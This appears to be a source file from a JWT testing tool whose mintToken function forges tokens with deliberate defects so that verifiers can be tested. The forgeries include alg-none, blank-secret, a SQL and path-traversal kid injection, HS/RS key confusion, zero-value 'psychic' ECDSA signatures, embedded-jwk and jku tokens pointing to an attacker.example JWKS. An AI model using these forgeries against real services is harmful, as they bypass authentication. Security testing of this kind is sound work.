import type { CompactJWSHeaderParameters as JWSHeaderParameters, JWK } from 'jose';
import { usageError } from '../errors.js';
import { deleteAtPointer, getAtPointer, setAtPointer } from '../jsonpointer.js';
import { isHmac, type JWTAlgorithm } from '../keys/algorithms.js';
import type { Keystore } from '../keys/keystore.js';
import { buildClaims, DEFAULT_CLAIMS_MAPPING, type ClaimsMapping } from './claims.js';
import { CLAIM_DEFECT_KINDS, type DefectSpec } from './defects.js';
import type { AttackerKey } from './forge.js';
import { signJws, signJwsAsync } from './jws.js';

export const DEFAULT_ISSUER = 'http://127.0.0.1:9400';
export const DEFAULT_TTL_SECONDS = 900;
export const DEFAULT_DEFECT_SKEW_SECONDS = 600;

export interface MintTokenOptions {
  keystore: Keystore;
  issuer?: string;
  subject?: string;
  audience?: string[];
  /** Lifetime in seconds (default 15 min). */
  ttlSeconds?: number;
  /** Absolute times, seconds since epoch. */
  notBefore?: number;
  issuedAt?: number;
  jti?: string;
  alg?: JWTAlgorithm;
  kid?: string;
  scopes?: string[];
  roles?: string[];
  tenant?: string;
  /** Extra claims by JSON pointer or name. */
  claims?: Record<string, unknown>;
  /** Extra JOSE header fields. */
  header?: Record<string, unknown>;
  mapping?: Partial<ClaimsMapping>;
  /** HMAC secret for HS* (else the keystore's generated secret). */
  secret?: Uint8Array;
  /** One defect, or several that compose (see combineDefects). */
  defect?: DefectSpec | readonly DefectSpec[];
  /** How far in the past/future `expired` and `not-yet-valid` put the time claims (default 10 min). */
  skewSeconds?: number;
  /** For the `jku` defect: where the attacker JWKS is served. */
  jkuUrl?: string;
  /** Reuse one attacker key across forgeries (the probe serves its JWKS). */
  attackerKey?: AttackerKey;
  /** Milliseconds since epoch. */
  clock?: () => number;
  /** Sign on libuv's threadpool instead of the calling thread (the mock issuer signs many tokens at once). */
  signAsync?: boolean;
}

export interface MintTokenResult {
  token: string;
  header: Record<string, unknown>;
  claims: Record<string, unknown>;
  /** ISO time of `exp`, if the token has one. */
  expiresAt?: string;
  defect?: string;
  /** The attacker JWKS to serve at the jku URL (jku defect only). */
  attackerJwks?: { keys: JWK[] };
}

/** Mints a JWT from the keystore (or an HMAC secret), optionally with deliberate defects. */
export async function mintToken(options: MintTokenOptions): Promise<MintTokenResult> {
  const now = Math.floor((options.clock ?? Date.now)() / 1000);
  const alg = options.alg ?? 'RS256';
  const mapping: ClaimsMapping = { ...DEFAULT_CLAIMS_MAPPING, ...options.mapping };
  const ttl = options.ttlSeconds ?? DEFAULT_TTL_SECONDS;
  const issuedAt = options.issuedAt ?? now;
  const claims = buildClaims({
    issuer: options.issuer ?? DEFAULT_ISSUER,
    subject: options.subject,
    audience: options.audience,
    issuedAt,
    notBefore: options.notBefore,
    expiresAt: (options.notBefore ?? issuedAt) + ttl,
    jti: options.jti,
    scopes: options.scopes,
    roles: options.roles,
    tenant: options.tenant,
    extra: options.claims,
    mapping,
  });

  let key: import('node:crypto').KeyObject | Uint8Array;
  let kid: string | undefined;
  let publicJwk: JWK | undefined;
  if (isHmac(alg) && options.secret) {
    if (options.secret.length === 0)
      throw usageError('ERR_EMPTY_SECRET', 'the HMAC secret is empty', {
        field: 'secret',
        hint: 'give a non-empty secret (use {{defect}} blank-secret to test empty-key forgeries)',
      });
    key = options.secret;
  } else {
    const signing = await options.keystore.signingKey(alg, { kid: options.kid });
    key = signing.key;
    kid = signing.record.kid;
    publicJwk = signing.record.publicJwk;
  }
  const header: JWSHeaderParameters = {
    alg,
    typ: 'JWT',
    ...(kid ? { kid } : {}),
    ...options.header,
  };
  if (options.kid && !kid) header.kid = options.kid;

  const defects =
    options.defect === undefined
      ? []
      : Array.isArray(options.defect)
        ? options.defect
        : [options.defect as DefectSpec];
  const defectName = defects.map((d) => (d.variant ? `${d.kind}:${d.variant}` : d.kind)).join(',');
  const result = (
    token: string,
    h: Record<string, unknown> = header,
    extra: Partial<MintTokenResult> = {},
  ): MintTokenResult => ({
    token,
    header: h,
    claims,
    expiresAt:
      typeof claims.exp === 'number' ? new Date(claims.exp * 1000).toISOString() : undefined,
    ...(defects.length ? { defect: defectName } : {}),
    ...extra,
  });
  if (!defects.length)
    return result(
      options.signAsync ? await signJwsAsync(header, claims, key) : signJws(header, claims, key),
    );

  // Claim defects change the claims; at most one forgery (combineDefects checks) then makes the token.
  for (const defect of defects)
    applyClaimDefect(defect, claims, mapping, {
      now,
      ttl,
      skew: options.skewSeconds ?? DEFAULT_DEFECT_SKEW_SECONDS,
    });
  const forgery = defects.find((d) => !CLAIM_DEFECT_KINDS.includes(d.kind));
  if (!forgery) return result(signJws(header, claims, key));

  // Forgeries need jose and throwaway keys: load them only for --defect.
  const {
    corruptSignature,
    ecdsaSignatureLength,
    encodeSegment,
    generateAttackerKey,
    publicPem,
    randomKid,
    signCompact,
    signHs256Raw,
    unsigned,
  } = await import('./forge.js');
  switch (forgery.kind) {
    case 'bad-signature':
      return result(corruptSignature(signJws(header, claims, key)));
    case 'null-signature': {
      const token = signJws(header, claims, key);
      return result(`${token.slice(0, token.lastIndexOf('.'))}.`);
    }
    case 'alg-none':
    case 'alg-none-case': {
      const h = {
        alg: forgery.kind === 'alg-none' ? 'none' : (forgery.variant ?? 'None'),
        typ: 'JWT',
      };
      return result(unsigned(h, claims), h);
    }
    case 'blank-secret': {
      const h = { alg: 'HS256', typ: 'JWT' };
      return result(signHs256Raw(h, claims, new Uint8Array(0)), h);
    }
    case 'kid-injection': {
      const h = {
        alg: 'HS256',
        typ: 'JWT',
        kid: forgery.variant === 'sql' ? "x' UNION SELECT '' -- " : '../../../../../../../dev/null',
      };
      return result(signHs256Raw(h, claims, new Uint8Array(0)), h);
    }
    case 'hs-confusion': {
      // The attack needs the issuer's public key: use this alg's key, or the RS256 key for HS requests.
      const target = publicJwk
        ? { jwk: publicJwk, kid }
        : await options.keystore
            .signingKey('RS256')
            .then((k) => ({ jwk: k.record.publicJwk!, kid: k.record.kid }));
      const h = { alg: 'HS256', typ: 'JWT', kid: target.kid };
      return result(signHs256Raw(h, claims, publicPem(target.jwk)), h);
    }
    case 'psychic-signature': {
      // The keystore's kid for this curve: kid-based verifiers (PyJWKClient, jwks-rsa, gateways) look the key
      // up first and would reject an unknown or missing kid before ever reaching the r = s = 0 check.
      const ecAlg = /^ES/.test(alg) ? alg : 'ES256';
      const ecKid =
        ecAlg === alg && kid ? kid : (await options.keystore.signingKey(ecAlg)).record.kid;
      const h = { alg: ecAlg, typ: 'JWT', kid: ecKid };
      const zeros = Buffer.alloc(ecdsaSignatureLength(ecAlg)).toString('base64url');
      return result(`${encodeSegment(h)}.${encodeSegment(claims)}.${zeros}`, h);
    }
    case 'unknown-kid': {
      const attacker = options.attackerKey ?? (await generateAttackerKey(alg));
      const h = { alg: attacker.alg, typ: 'JWT', kid: randomKid() };
      return result(await signCompact(h, claims, attacker.privateKey), h);
    }
    case 'embedded-jwk': {
      const attacker = options.attackerKey ?? (await generateAttackerKey(alg));
      const { kid: attackerKid, ...jwk } = attacker.publicJwk;
      const h = {
        alg: attacker.alg,
        typ: 'JWT',
        kid: attackerKid,
        jwk: { kty: jwk.kty, crv: jwk.crv, x: jwk.x, y: jwk.y, n: jwk.n, e: jwk.e },
      };
      return result(await signCompact(h as JWSHeaderParameters, claims, attacker.privateKey), h);
    }
    case 'jku': {
      if (!options.jkuUrl) {
        throw usageError('ERR_JKU_URL_REQUIRED', 'the jku defect needs the attacker JWKS URL', {
          field: 'jkuUrl',
          hint: 'add {{jkuUrl}} https://attacker.example/jwks.json (the JSON output includes the JWKS to serve there)',
        });
      }
      const attacker = options.attackerKey ?? (await generateAttackerKey(alg));
      const h = { alg: attacker.alg, typ: 'JWT', kid: attacker.publicJwk.kid, jku: options.jkuUrl };
      return result(await signCompact(h as JWSHeaderParameters, claims, attacker.privateKey), h, {
        attackerJwks: { keys: [attacker.publicJwk] },
      });
    }
  }
  return result(signJws(header, claims, key));
}

/** Applies a claim-only defect to `claims` in place; forgeries are left to mintToken. */
function applyClaimDefect(
  defect: DefectSpec,
  claims: Record<string, unknown>,
  mapping: ClaimsMapping,
  t: { now: number; ttl: number; skew: number },
): void {
  switch (defect.kind) {
    case 'expired':
      claims.exp = t.now - t.skew;
      claims.iat = (claims.exp as number) - t.ttl;
      if (claims.nbf !== undefined) claims.nbf = claims.iat;
      break;
    case 'not-yet-valid':
      claims.nbf = t.now + t.skew;
      claims.exp = t.now + t.skew + t.ttl;
      break;
    case 'wrong-issuer':
      claims.iss = 'https://wrong-issuer.authctl.invalid';
      break;
    case 'wrong-audience':
      claims.aud = 'api://wrong-audience.authctl.invalid';
      break;
    case 'missing-tenant':
      deleteAtPointer(claims, mapping.tenantClaim);
      break;
    case 'wrong-tenant': {
      const current = getAtPointer(claims, mapping.tenantClaim);
      setAtPointer(
        claims,
        mapping.tenantClaim,
        defect.variant ?? (current ? `${String(current)}-other` : 'authctl-other-tenant'),
      );
      break;
    }
    case 'missing-scope':
      delete claims[mapping.scopeClaim];
      break;
    case 'no-exp':
      delete claims.exp;
      break;
  }
}
